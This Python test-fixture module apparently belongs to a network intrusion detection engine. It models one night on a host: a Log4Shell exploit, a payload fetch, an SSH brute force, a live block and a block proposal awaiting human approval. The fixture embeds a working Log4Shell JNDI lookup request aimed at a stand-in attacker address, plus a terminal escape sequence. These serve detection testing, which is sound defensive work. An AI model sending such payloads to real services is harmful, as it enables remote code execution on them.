"""One night on one host, as engine values: an exploit, a brute force, one live block and one question."""

from __future__ import annotations

import json
from dataclasses import replace

from engine.types import (
    Alert,
    Block,
    BlockState,
    Claim,
    Conclusion,
    Counters,
    Detection,
    Direction,
    Disposition,
    Evidence,
    Fault,
    FiveTuple,
    Flow,
    FlowState,
    Incident,
    IncidentView,
    Party,
    Proposal,
    ProposalState,
    Severity,
    Snapshot,
    Span,
    Status,
    StepKind,
    Terms,
    TraceStep,
    Verdict,
)

NOW = 1_760_000_531.0
ATTACKER = "203.0.113.9"
BRUTE = "198.51.100.7"
LOCAL = "192.0.2.10"
REQUEST = (
    b"GET /?x=${jndi:ldap://203.0.113.9:1389/a} HTTP/1.1\r\nHost: shop.local\r\n"
    b"User-Agent: curl/8.5\x1b[2J\r\nAccept: */*\r\n\r\n"
)


def flow(number: int = 0, **changes: object) -> Flow:
    """Return a flow of the night; 0 is the exploit."""
    names = ("shop.local", "api.local", "OpenSSH_9.7", "cdn.example", "")
    made = Flow(
        id=f"1:flow{number}",
        five_tuple=FiveTuple(ATTACKER if number == 0 else f"192.0.2.{20 + number}", 40000 + number, LOCAL, 8080, "tcp"),
        iface="eth0",
        first_seen=NOW - 20 - number,
        last_seen=NOW - number,
        packets=(6 + number, 4),
        bytes=(1200 + 977 * number, 900),
        payload_bytes=(len(REQUEST), 200),
        head=(REQUEST, b"HTTP/1.1 200 OK\r\n\r\n"),
        state=FlowState.ESTABLISHED,
        handshake=True,
        app=("http", "tls", "ssh", "tls", "")[number % 5],
        name=names[number % 5],
    )
    return replace(made, **changes)  # type: ignore[arg-type]  # a test names the fields it changes


def alert(**changes: object) -> Alert:
    """Return the exploit's alert."""
    at = REQUEST.index(b"${jndi")
    detection = Detection(
        flow_id="1:flow0",
        at=NOW - 13,
        detector="rules",
        version="2026.1",
        label="log4shell.jndi",
        score=1.0,
        severity=Severity.CRITICAL,
        reason="a JNDI lookup in an HTTP request",
        attacker=Party.INITIATOR,
        attack_ids=("T1190",),
        event_class="web_exploit",
        spans=(Span(Direction.TO_SERVER, at, 33),),
        excerpt=REQUEST,
    )
    made = Alert("A-0000000001", ATTACKER, LOCAL, NOW - 13, NOW - 2, 3, detection, flow(0), "INC-00000042")
    return replace(made, **changes)  # type: ignore[arg-type]  # a test names the fields it changes


def fetch_alert() -> Alert:
    """Return the alert on the payload that was fetched next."""
    detection = replace(alert().detection, label="payload.fetch", severity=Severity.HIGH, spans=(), at=NOW - 9)
    detection = replace(detection, reason="a shell script fetched by the exploited service", detector="model")
    return alert(id="A-0000000002", first_at=NOW - 9, count=1, detection=detection)


def incident(**changes: object) -> Incident:
    """Return the exploit's incident."""
    made = Incident(
        id="INC-00000042",
        target_ip=ATTACKER,
        opened_at=NOW - 13,
        updated_at=NOW - 2,
        severity=Severity.CRITICAL,
        title="Log4Shell, then payload fetch",
        alert_ids=("A-0000000001", "A-0000000002"),
        attack_ids=("T1190", "T1105"),
        handshake=True,
    )
    return replace(made, **changes)  # type: ignore[arg-type]  # a test names the fields it changes


def brute_force() -> Incident:
    """Return the incident that is blocked already."""
    made = incident(id="INC-00000041", target_ip=BRUTE, title="SSH brute force", severity=Severity.HIGH)
    return replace(made, opened_at=NOW - 1200, alert_ids=("A-0000000003",), attack_ids=("T1110",))


def proposal(**changes: object) -> Proposal:
    """Return the question that waits."""
    made = Proposal(
        id="P-17",
        terms=Terms("INC-00000042", f"{ATTACKER}/32", 3600.0, ("eth0",), "ab" * 32),
        reason="Log4Shell then payload fetch from the same address",
        created_at=NOW - 9,
        expires_at=NOW + 871,
        state=ProposalState.PENDING,
    )
    return replace(made, **changes)  # type: ignore[arg-type]  # a test names the fields it changes


def block(**changes: object) -> Block:
    """Return the block that is live."""
    made = Block(
        prefix=f"{BRUTE}/32",
        state=BlockState.LIVE,
        ifaces=("eth0",),
        remaining_s=2466.0,
        packets=412,
        bytes=24720,
        last_hit_at=NOW - 1,
        proposal_id="P-16",
        incident_id="INC-00000041",
        approver="uid 1000 on pts/0 from 192.0.2.77",
        reason="SSH brute force",
        added_at=NOW - 1134,
        ttl_s=3600.0,
    )
    return replace(made, **changes)  # type: ignore[arg-type]  # a test names the fields it changes


def steps() -> tuple[TraceStep, ...]:
    """Return what the analyst did."""
    process = '{"pid": 8901, "comm": "java", "unit": "shop.service"}'
    rows = (
        ("investigator", StepKind.TOOL_CALL, "get_pid_by_connection", f"tcp {ATTACKER}:40000 {LOCAL}:8080"),
        ("investigator", StepKind.TOOL_RESULT, "get_pid_by_connection", process),
        ("investigator", StepKind.TOOL_CALL, "analyze_process_behavior", "pid 8901"),
        ("investigator", StepKind.TOOL_RESULT, "analyze_process_behavior", "java -> sh -> wget"),
        ("commander", StepKind.ANSWER, "playbook", "exploit of a public application, then ingress tool transfer"),
        ("verdict", StepKind.VERDICT, "playbook", "malicious"),
    )
    return tuple(
        TraceStep("INC-00000042", n, NOW - 10 + n, role, kind, name, text, elapsed_s=0.1 * n)
        for n, (role, kind, name, text) in enumerate(rows)
    )


def evidence() -> tuple[Evidence, ...]:
    """Return what was recorded."""
    process = {
        "finding": "found",
        "pid": 8901,
        "ppid": 1,
        "user": "shop",
        "exe": "/usr/lib/jvm/java",
        "exe_deleted": False,
        "cmdline": ["java", "-jar", "shop.jar"],
        "unit": "shop.service",
        "parents": ["1 systemd"],
        "children": ["8977 sh", "8978 wget"],
    }
    owner = {"finding": "found", "pid": 8901, "comm": "java"}
    return (
        _fact("E-aaaaaaaaa1", "alert", "log4shell.jndi on port 8080", '{"label": "log4shell.jndi"}'),
        _fact("E-aaaaaaaaa2", "socket_owner", "java[8901] owns the connection", json.dumps(owner)),
        _fact("E-aaaaaaaaa3", "process", "java of shop.service started sh and wget", json.dumps(process)),
        _fact("E-aaaaaaaaa4", "payload", "the request", "GET /?x=${jndi:ldap://203.0.113.9:1389/a} HTTP/1.1"),
    )


def verdict() -> Verdict:
    """Return what the analyst concludes."""
    return Verdict(
        incident_id="INC-00000042",
        at=NOW - 5,
        analyst="playbook",
        conclusion=Conclusion.MALICIOUS,
        severity=Severity.CRITICAL,
        disposition=Disposition.TRUE_POSITIVE,
        attack_ids=("T1190", "T1105"),
        claims=(
            Claim("The request carries a JNDI lookup.", ("E-aaaaaaaaa1", "E-aaaaaaaaa4"), ("T1190",), True),
            Claim("The service started a shell that fetched a file.", ("E-aaaaaaaaa3",), ("T1105",), True),
            Claim("The attacker is a known group."),
        ),
        not_done=("memory of the process was not read: no tool for it",),
        actions=("block 203.0.113.9/32 for 1 h", "restart shop.service after patching log4j"),
        summary="An exploit of a public application succeeded and fetched a second stage.",
    )


def incident_view(**changes: object) -> IncidentView:
    """Return the exploit's incident in full."""
    made = IncidentView(
        incident=incident(),
        alerts=(alert(), fetch_alert()),
        evidence=evidence(),
        steps=steps(),
        verdict=verdict(),
        proposals=(proposal(),),
        decisions=(),
    )
    return replace(made, **changes)  # type: ignore[arg-type]  # a test names the fields it changes


def counters(**changes: object) -> Counters:
    """Return counters that add up, one packet in flight."""
    made = Counters(
        kernel_seen=1_204_118,
        kernel_dropped=0,
        delivered=1_204_118,
        parsed=1_204_000,
        filtered=100,
        malformed=17,
        bytes=812_000_000,
        flows_now=812,
        flows_total=20_113,
        judged=9_120,
        detections=230,
        alerts=3,
        deduplicated=227,
        queues={"frames": (3, 64), "flows": (120, 2048), "events": (0, 256), "incidents": (31, 64)},
    )
    return replace(made, **changes)  # type: ignore[arg-type]  # a test names the fields it changes


def fault() -> Fault:
    """Return a missing ability."""
    return Fault(
        ability="llm",
        message="cannot reach the model endpoint 127.0.0.1:8000: Connection refused; the playbook analyst works",
        remedy="Start the endpoint, or unset OPENAI_BASE_URL to keep the playbook analyst.",
        at=NOW - 400,
    )


def status(**changes: object) -> Status:
    """Return a healthy live host."""
    made = Status("live", "eth0", "XDP native", "playbook", "bytes-cnn 1f2e3d4c5b6a", blocking=True)
    return replace(made, **changes)  # type: ignore[arg-type]  # a test names the fields it changes


def snapshot(**changes: object) -> Snapshot:
    """Return the whole night."""
    flows = tuple(flow(number) for number in range(40))
    made = Snapshot(
        status=status(),
        counters=counters(),
        now=NOW,
        flows=flows,
        scores={flows[n].id: (0.998 if n == 0 else 0.02 * (n % 7)) for n in range(0, 40, 3)},
        incidents=(incident(), brute_force()),
        alerts=(fetch_alert(), alert()),
        proposals=(proposal(),),
        blocks=(block(),),
        faults=(fault(),),
    )
    return replace(made, **changes)  # type: ignore[arg-type]  # a test names the fields it changes


def quiet(**changes: object) -> Snapshot:
    """Return a host on which nothing has happened yet."""
    made = Snapshot(status(), Counters(), NOW, (), {}, (), (), (), (), ())
    return replace(made, **changes)  # type: ignore[arg-type]  # a test names the fields it changes


def _fact(id: str, kind: str, summary: str, content: str) -> Evidence:
    return Evidence(id, "INC-00000042", kind, NOW - 8, summary, content, "cd" * 32)
